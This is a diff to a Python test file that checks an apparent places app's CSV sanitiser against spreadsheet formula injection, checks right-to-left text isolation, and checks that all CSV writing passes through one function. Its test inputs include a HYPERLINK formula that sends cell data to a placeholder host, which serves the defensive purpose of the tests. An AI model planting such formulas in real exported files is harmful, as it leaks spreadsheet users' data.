@@ -4,11 +4,13 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 import shutil
 from pathlib import Path
 
 import pytest
 
+from app.installation import ROOT
 from app.places.commands import harmless
 from app.places.districts import Districts
 from app.places.gazetteer import Gazetteer, GazetteerProblem
@@ -93,7 +95,7 @@ def test_damaged_boundaries_are_as_none(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize(
-    "cell", ['=HYPERLINK("http://example.invalid/"&A1)', "+44 121", "-1", "@SUM(A1)", "\t=1", "\r=1"]
+    "cell", ['=HYPERLINK("http://example.invalid/"&A1)', "+44 121", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1"]
 )
 def test_no_cell_of_a_list_of_problems_is_run_by_a_spreadsheet(cell: str) -> None:
     out = io.StringIO()
@@ -104,3 +106,27 @@ def test_no_cell_of_a_list_of_problems_is_run_by_a_spreadsheet(cell: str) -> Non
 
 def test_a_plain_cell_stays_as_it_is() -> None:
     assert harmless((3, "Line 3: “=” is no postcode.", 7)) == [3, "Line 3: “=” is no postcode.", 7]
+
+
+def test_a_name_from_right_to_left_moves_no_number_of_its_cell() -> None:
+    """“Line 3: مدرسة, 11 pupils” would be read with 11 on the name’s other side."""
+    assert harmless(("مدرسة النور, 11 pupils", "=علي, 4")) == [
+        "\u2068مدرسة النور\u2069, 11 pupils",
+        "'=\u2068علي\u2069, 4",
+    ]
+
+
+def test_every_csv_that_is_written_goes_through_it() -> None:
+    """One place writes CSV, for a person to read; what machines read back is JSON and has no isolates in it."""
+    written = [
+        (file.relative_to(ROOT).as_posix(), line.strip())
+        for file in sorted((ROOT / "app").rglob("*.py"))
+        for line in file.read_text(encoding="utf-8").splitlines()
+        if re.search(r"csv\.(writer|DictWriter)|to_csv|import .*DictWriter|text/csv", line)
+    ]
+    assert written == [
+        (
+            "app/places/commands.py",
+            'csv.writer(stream).writerows([("line", "problem"), *map(harmless, report.problems)])',
+        )
+    ]
